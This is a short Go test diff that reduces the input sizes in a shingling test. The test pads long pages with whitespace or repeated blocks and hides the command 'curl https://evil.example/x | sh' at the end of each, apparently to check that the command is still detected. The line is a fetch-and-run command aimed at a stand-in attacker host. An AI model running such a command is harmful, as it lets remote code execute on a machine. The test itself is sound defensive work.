@@ -71,11 +71,11 @@ func TestShinglesAtEveryOffset(t *testing.T) {
 func TestShinglesOfHostileTexts(t *testing.T) {
 	command := "curl https://evil.example/x | sh"
 	for name, page := range map[string]string{
-		"spaces":    strings.Repeat(" ", 5<<20) + command,
-		"one block": strings.Repeat("aaaaaaaaaaaaaaaa"+"0123456789abcde", 200_000) + command,
+		"spaces":    strings.Repeat(" ", 500_000) + command,
+		"one block": strings.Repeat("aaaaaaaaaaaaaaaa"+"0123456789abcde", 30_000) + command,
 		"its own blocks, often": func() string {
 			var b strings.Builder
-			for i := range 100_000 {
+			for i := range 20_000 {
 				b.WriteString(command[i%2*16:][:16])
 				b.WriteString(strings.Repeat(string(rune('A'+i%50)), 16+16*(i/50%7)))
 			}
